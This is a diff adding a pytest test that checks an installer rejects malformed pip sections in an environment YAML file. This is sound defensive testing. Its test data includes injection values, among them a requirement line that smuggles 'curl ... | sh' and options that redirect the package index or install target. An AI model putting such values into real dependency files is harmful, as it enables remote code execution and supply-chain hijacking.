@@ -9,6 +9,7 @@ import nibabel as nib
 import numpy as np
 import pandas as pd
 import pytest
+import yaml
 
 from mrisr.degrade import lr_affine
 from mrisr.errors import InputError
@@ -75,6 +76,25 @@ def test_a_file_that_is_no_environment_is_refused_with_the_fix(tmp_path):
     (tmp_path / "bad.yaml").write_text("dependencies: [numpy]\n")
     with pytest.raises(InputError, match="pip section"):
         requirements(tmp_path / "bad.yaml")
+
+
+@pytest.mark.parametrize("pip, problem", [
+    ("abc", "not a list"),  # a string: pip would install a, b and c
+    (["eclare==1.0.1", "--index-url http://127.0.0.1:9/simple"], "pip option"),
+    (["--target=/tmp/elsewhere"], "pip option"),
+    (["-r other.txt"], "pip option"),
+    (["eclare==1.0.1; curl http://127.0.0.1:9 | sh"], "PEP 508"),
+    (["eclare==1.0.1", 3], "not a list"),
+    ([], "not a list"),
+])
+def test_a_pip_section_holds_requirements_and_nothing_pip_would_read_as_options(tmp_path, pip, problem):
+    """The pip section, as pip would read it: each line a PEP 508 requirement; a string, an option of pip's or a
+    line that no requirement parser takes is refused, naming the file, before any environment is made."""
+    (tmp_path / "env.yaml").write_text(yaml.safe_dump({"dependencies": ["python=3.11", {"pip": pip}]}))
+    with pytest.raises(InputError, match=problem) as err:
+        install(tmp_path / "env.yaml", tmp_path / "env")
+    assert "env.yaml" in str(err.value) and "PEP 508" in str(err.value)
+    assert not (tmp_path / "env").exists()
 
 
 def test_outside_output_on_its_own_grid_lands_on_ours_by_its_affine(tmp_path):
